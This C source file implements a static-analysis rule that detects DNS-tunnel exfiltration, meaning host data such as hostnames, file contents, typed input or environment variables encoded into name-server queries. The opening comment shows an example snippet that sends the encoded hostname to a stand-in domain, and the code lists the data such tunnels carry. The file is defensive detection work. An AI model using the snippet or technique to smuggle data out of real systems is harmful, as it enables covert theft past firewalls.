/* exfil/dns-tunnel: data leave inside the questions that a name server is asked.
 *
 *     gethostname(name, sizeof name);
 *     snprintf(question, sizeof question, "%s.t.cdn-metrics.example", hex(name));
 *     getaddrinfo(question, NULL, NULL, &answer);
 *
 * Secrets in such a name are exfil/secret-to-network's. Not caught: data that only choose which of
 * several constant names is asked for.
 */
#include <ctype.h>
#include <string.h>

#include "checkers/shared/channel/leak.h"
#include "checkers/shared/trapdoor/trap.h"

/* What an encoder does. Numbers that are printed and parts that are joined are not encoded. */
#define ENCODED                                                                                    \
    (VT_TAG_XOR | VT_TAG_ENCODE | VT_TAG_INDEX | VT_TAG_HASH | VT_TAG_ENCRYPT | VT_TAG_COMPRESS |  \
     VT_TAG_ARITHMETIC)

/* What may be told to name servers, how it is told, and whether being encoded is what tells it from
 * a name that is looked up as it stands. */
static const struct cargo {
    const char *class_name, *handle; /* of the origin; what it is read through, or NULL */
    const char *what;
    bool only_encoded;
    int weight;
} cargoes[] = {
    {"host.identity", NULL, "The identity of this host", false, 20},
    {"host.user", NULL, "A user of this host", false, 20},
    {"host.network", NULL, "An address of this host", false, 15},
    {"process.identity", NULL, "A process of this host", true, 10},
    {"io.read", "pipe", "The output of a command", true, 30},
    {"io.read", "file", "The content of a file", true, 20},
    {"terminal.read", NULL, "What was typed", true, 25},
    {"io.read", "terminal", "What was typed", true, 25},
    {"environment", NULL, "A variable of the environment", true, 15},
    {"clock", NULL, "The time", false, 5},
};

static bool is_read_through(struct vt_program *program, const struct vt_source *source,
                            const char *handle) {
    return strcmp(handle, "terminal") == 0 ? vt_trap_is_terminal(program, source)
                                           : vt_handle_is(program, source->event, handle);
}

static const struct cargo *find_cargo(struct vt_program *program, const struct vt_source *source) {
    for (size_t i = 0; i < sizeof cargoes / sizeof *cargoes; i++) {
        const struct cargo *cargo = &cargoes[i];
        if (vt_source_is(program, source, VT_FACT_ORIGIN, cargo->class_name) &&
            (!cargo->handle || is_read_through(program, source, cargo->handle)) &&
            (!cargo->only_encoded || source->tags & ENCODED))
            return cargo;
    }
    return NULL;
}

/* A constant part of the name that says below which domain it is: "%s.t.example", ".example". */
static bool names_domain(const char *text) {
    const char *dot = strrchr(text, '.');
    if (!dot || strpbrk(text, "/ ,@") || strcmp(dot, ".local") == 0 ||
        strcmp(dot, ".localdomain") == 0 || strcmp(dot, ".arpa") == 0)
        return false;
    size_t letters = 0;
    while (isalpha((unsigned char)dot[1 + letters]))
        letters++;
    return letters >= 2 && (!dot[1 + letters] || dot[1 + letters] == '.');
}

/* True if TEXT has but one part that is written: "%s.badblocks", ".badblocks". */
static bool is_ending(const char *text) {
    const char *dot = strrchr(text, '.');
    return dot == text || (dot - text == 2 && strncmp(text, "%s", 2) == 0);
}

/* True if TEXT ends as names of files do, and no domain does. */
static bool names_file(const char *text) {
    static const char *const endings[] = {".conf", ".db",   ".dat", ".htm", ".html",
                                          ".json", ".lock", ".log", ".pem", ".pid",
                                          ".sock", ".tmp",  ".txt", ".xml"};
    for (size_t i = 0; i < sizeof endings / sizeof *endings; i++)
        if (strcmp(strrchr(text, '.'), endings[i]) == 0)
            return true;
    return false;
}

/* The first domain that TRACE brings, or NULL. An ending that a search met before it ran out may be
 * that of files. */
static const char *find_domain(const struct vt_trace *trace) {
    size_t count;
    const struct vt_source *sources = vt_trace_sources(trace, &count);
    for (size_t i = 0; i < count; i++) {
        const char *text = vt_source_text(&sources[i]);
        if (names_domain(text) && !names_file(text) && !(is_ending(text) && vt_trace_is_cut(trace)))
            return text;
    }
    return NULL;
}

/* Whose servers are asked, if the program says so; else false. */
static bool weigh_domain(struct vt_check *check, struct vt_finding *finding,
                         const struct vt_trace *trace) {
    const char *domain = find_domain(trace);
    if (domain)
        vt_finding_evidence(check, finding, "constant-domain", 30,
                            "The domain whose servers are asked is written in the program: %s.",
                            domain);
    return domain != NULL;
}

static void tell(struct vt_check *check, const struct vt_leak *leak, const struct cargo *cargo,
                 struct vt_finding *finding) {
    vt_leak_weigh_disguise(check, finding, leak->source->tags);
    vt_leak_weigh_start(check, finding, leak);
    if (!(leak->source->tags & VT_TAG_XOR)) /* nobody is told of what is hidden, switch or not */
        vt_leak_weigh_switch(check, finding, leak);
    vt_leak_weigh_doubt(check, finding, leak);
    vt_finding_message(check, finding, "%s from `%s` is asked of name servers.", cargo->what,
                       vt_source_function(vt_check_program(check), leak->source));
    vt_finding_path(check, finding, leak->trace, leak->source, "It is read here",
                    "It is part of a question to a name server here");
    vt_finding_send(check, finding, 10 + cargo->weight);
}

static bool has_secret(struct vt_check *check, struct vt_leak *leak) {
    return vt_find_source(vt_check_program(check), leak->trace, VT_FACT_ORIGIN, "secret") ||
           vt_leak_is_named(check, leak, "secret");
}

static bool visit_name(struct vt_check *check, struct vt_leak *leak, void *context) {
    struct vt_program *program = vt_check_program(check);
    const struct cargo *cargo = find_cargo(program, leak->source);
    (void)context;
    if (!cargo)
        return false;
    if (has_secret(check, leak))
        return true;
    if (!find_domain(leak->trace) && !(leak->source->tags & ENCODED))
        return false; /* a name of this host, as it stands, below nobody's domain */
    struct vt_finding *finding = vt_finding_new(check, leak->asked.ref);
    weigh_domain(check, finding, leak->trace);
    tell(check, leak, cargo, finding);
    return true;
}

static bool visit_packet(struct vt_check *check, struct vt_leak *leak, void *context) {
    struct vt_program *program = vt_check_program(check);
    const struct cargo *cargo = find_cargo(program, leak->source);
    (void)context;
    if (!cargo || cargo->weight < 15 || vt_leak_way(program, leak->asked.ref) != VT_WAY_LOOKUP)
        return false;
    struct vt_peer peer = vt_leak_peer(check, leak);
    if (has_secret(check, leak) || peer.kind == VT_PEER_LOCAL)
        return true;
    struct vt_finding *finding = vt_finding_new(check, leak->asked.ref);
    /* Whoever is asked first, the question ends at the domain's own servers. */
    if (!weigh_domain(check, finding, leak->trace) || peer.kind == VT_PEER_CONSTANT)
        vt_leak_weigh_peer(check, finding, &peer);
    vt_finding_evidence(check, finding, "name-service-port", 15,
                        "It goes to the port of name servers.");
    tell(check, leak, cargo, finding);
    return true;
}

static void run(struct vt_check *check) {
    vt_leaks_by(check, "net.resolve", VT_ROLE_PEER, visit_name, NULL);
    vt_leaks_to_network(check, visit_packet, NULL);
}

const struct vt_rule vt_exfil_dns_tunnel = {
    .id = "exfil/dns-tunnel",
    .name = "DnsTunnel",
    .summary = "Data of this host are hidden in questions to name servers",
    .description =
        "Data of this host become part of a name that a resolver is asked for, or of a packet to "
        "the port of name servers. Such questions pass firewalls, and the owner of the domain "
        "reads them. Encoded data, and a domain written in the program, are what tells this from "
        "looking a host up; a name computed from the date is how a program finds a master that "
        "moves.",
    .help = "Ask resolvers for names of hosts only. If a protocol carries data in names, say in "
            "the declaration which, and let a setting name the domain.",
    .cwe = "CWE-506,CWE-514",
    .precision = "medium",
    .severity = 8.0,
    .run = run,
};
